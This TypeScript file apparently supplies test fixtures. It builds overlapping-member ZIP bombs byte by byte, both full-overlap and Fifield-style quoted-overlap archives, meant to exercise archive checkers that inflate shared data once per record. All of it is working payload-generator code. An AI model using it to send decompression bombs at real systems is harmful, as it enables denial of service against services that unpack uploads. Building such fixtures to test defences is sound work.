// Overlapping-member ZIP bombs (after David Fifield's "A better zip bomb"),
// built byte by byte so no writer of ours is involved: many central records
// whose data is the same few KB of deflate, which a careless checker inflates
// once per record.
import { crc32, deflateRawSync, inflateRawSync } from 'node:zlib';

function localHeader(name: string, crc: number, csize: number, usize: number): Buffer {
  const n = Buffer.from(name);
  const h = Buffer.alloc(30);
  h.writeUInt32LE(0x04034b50, 0);
  h.writeUInt16LE(20, 4);
  h.writeUInt16LE(8, 8); // deflate
  h.writeUInt32LE(crc, 14);
  h.writeUInt32LE(csize, 18);
  h.writeUInt32LE(usize, 22);
  h.writeUInt16LE(n.length, 26);
  return Buffer.concat([h, n]);
}

function centralRecord(
  name: string,
  crc: number,
  csize: number,
  usize: number,
  offset: number,
): Buffer {
  const n = Buffer.from(name);
  const c = Buffer.alloc(46);
  c.writeUInt32LE(0x02014b50, 0);
  c.writeUInt16LE(20, 4);
  c.writeUInt16LE(20, 6);
  c.writeUInt16LE(8, 10);
  c.writeUInt32LE(crc, 16);
  c.writeUInt32LE(csize, 20);
  c.writeUInt32LE(usize, 24);
  c.writeUInt16LE(n.length, 28);
  c.writeUInt32LE(offset, 42);
  return Buffer.concat([c, n]);
}

function endRecord(count: number, cdSize: number, cdOffset: number): Buffer {
  const e = Buffer.alloc(22);
  e.writeUInt32LE(0x06054b50, 0);
  e.writeUInt16LE(count, 8);
  e.writeUInt16LE(count, 10);
  e.writeUInt32LE(cdSize, 12);
  e.writeUInt32LE(cdOffset, 16);
  return e;
}

/** `count` central records named f0.. all pointing at one local header of `zeros` deflated zeros. */
export function fullOverlapBomb(count: number, zeros: number): Uint8Array {
  const data = deflateRawSync(Buffer.alloc(zeros), { level: 9 });
  const crc = crc32(Buffer.alloc(zeros));
  const local = Buffer.concat([localHeader('f0', crc, data.length, zeros), data]);
  const central = Array.from({ length: count }, (_, i) =>
    centralRecord(`f${i}`, crc, data.length, zeros, 0),
  );
  const cd = Buffer.concat(central);
  return new Uint8Array(Buffer.concat([local, cd, endRecord(count, cd.length, local.length)]));
}

/**
 * Fifield's quoted overlap: member i's data is a stored deflate block that
 * quotes member i+1's local header, then member i+1's data; the last
 * member's data is the kernel, `zeros` deflated zeros. Every member is valid
 * on its own, and each one's data holds the next.
 */
export function quotedOverlapBomb(count: number, zeros: number): Uint8Array {
  const kernel = deflateRawSync(Buffer.alloc(zeros), { level: 9 });
  // Built from the last member back: data[i] = quote(header[i+1]) + data[i+1].
  const headers: Buffer[] = [];
  let data = kernel;
  const info: Array<{ crc: number; csize: number; usize: number }> = [];
  for (let i = count - 1; i >= 0; i--) {
    const inflated = inflateRawSync(data);
    const entry = { crc: crc32(inflated), csize: data.length, usize: inflated.length };
    info[i] = entry;
    headers[i] = localHeader(`f${i}`, entry.crc, entry.csize, entry.usize);
    if (i > 0) {
      const h = headers[i];
      const quote = Buffer.alloc(5);
      quote[0] = 0; // BFINAL 0, BTYPE 00 (stored)
      quote.writeUInt16LE(h.length, 1);
      quote.writeUInt16LE(~h.length & 0xffff, 3);
      data = Buffer.concat([quote, h, data]);
    }
  }
  // The file: header[0], quote, header[1], quote, ..., header[n-1], kernel.
  let offset = 0;
  const offsets: number[] = [];
  const parts: Buffer[] = [];
  for (let i = 0; i < count; i++) {
    offsets.push(offset);
    parts.push(headers[i]);
    offset += headers[i].length;
    if (i + 1 < count) {
      const quote = Buffer.alloc(5);
      quote.writeUInt16LE(headers[i + 1].length, 1);
      quote.writeUInt16LE(~headers[i + 1].length & 0xffff, 3);
      parts.push(quote);
      offset += 5;
    }
  }
  parts.push(kernel);
  offset += kernel.length;
  const cd = Buffer.concat(
    info.map((e, i) => centralRecord(`f${i}`, e.crc, e.csize, e.usize, offsets[i])),
  );
  return new Uint8Array(Buffer.concat([...parts, cd, endRecord(count, cd.length, offset)]));
}
